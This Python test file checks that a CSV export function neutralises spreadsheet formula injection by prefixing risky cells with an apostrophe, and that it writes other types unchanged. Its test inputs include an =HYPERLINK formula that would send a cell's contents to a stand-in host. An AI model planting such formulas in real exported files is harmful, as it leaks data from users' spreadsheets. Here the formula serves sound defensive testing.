"""CSV for spreadsheets: nothing in it runs, nothing harmless is changed."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

import duckdb
import pyarrow as pa
import pytest

from etl.reports.spreadsheet import write_csv


def written(columns: dict[str, list[Any]]) -> list[list[str]]:
    """The cells of what is written, read by Python's own reader."""
    target = io.StringIO()
    write_csv(duckdb.from_arrow(pa.table(columns)), target)
    return list(csv.reader(io.StringIO(target.getvalue(), newline="")))


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://x.example?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"],
)
def test_a_text_that_would_run_is_marked(text: str) -> None:
    assert written({"headline": [text]})[1] == ["'" + text]


def test_a_heading_that_would_run_is_marked() -> None:
    assert written({"=1+1": ["x"]})[0] == ["'=1+1"]


def test_harmless_texts_come_back_as_they_were() -> None:
    texts = ['He said "no", twice', "two\n\nparagraphs", "a=b", "Ünïcode – and, commas", "'quoted'", " =1", "5-2", "#1"]
    assert [row[0] for row in written({"text": texts})[1:]] == texts


def test_truth_is_written_as_r_and_duckdb_read_it() -> None:
    assert written({"is_partial": [True, False, None], "all": [[True], [False], []]})[1:] == [
        ["true", "[true]"],
        ["false", "[false]"],
        ["", "[]"],
    ]


def test_numbers_dates_and_gaps_stay_what_they_are() -> None:
    columns = {
        "whole": [-5, None],
        "broken": [-1.5, 2.0],
        "day": [date(2026, 3, 14), None],
        "instant": [datetime(2026, 3, 14, 6), None],
        "authors": [["=Mara", "Bo"], []],
        "text": [None, ""],
    }
    assert written(columns)[1:] == [
        ["-5", "-1.5", "2026-03-14", "2026-03-14 06:00:00", '["=Mara", "Bo"]', ""],
        ["", "2.0", "", "", "[]", ""],
    ]


def test_every_type_is_written_as_duckdb_writes_it_and_parts_as_json() -> None:
    target = io.StringIO()
    write_csv(
        duckdb.sql(
            """
            select
                interval 3 day as i, interval '-3 days' as j, '\\xAA\\x00b'::blob as b, -5::hugeint as h,
                1.50::decimal(4, 2) as d, map {'k': 1::hugeint} as m, {'x': 'nan'::double} as s, '=1' as t
            """
        ),
        target,
    )
    assert list(csv.reader(io.StringIO(target.getvalue(), newline="")))[1] == [
        "3 days",
        "'-3 days",
        "\\xAA\\x00b",
        "-5",
        "1.50",
        '{"k": 1}',
        '{"x": null}',
        "'=1",
    ]
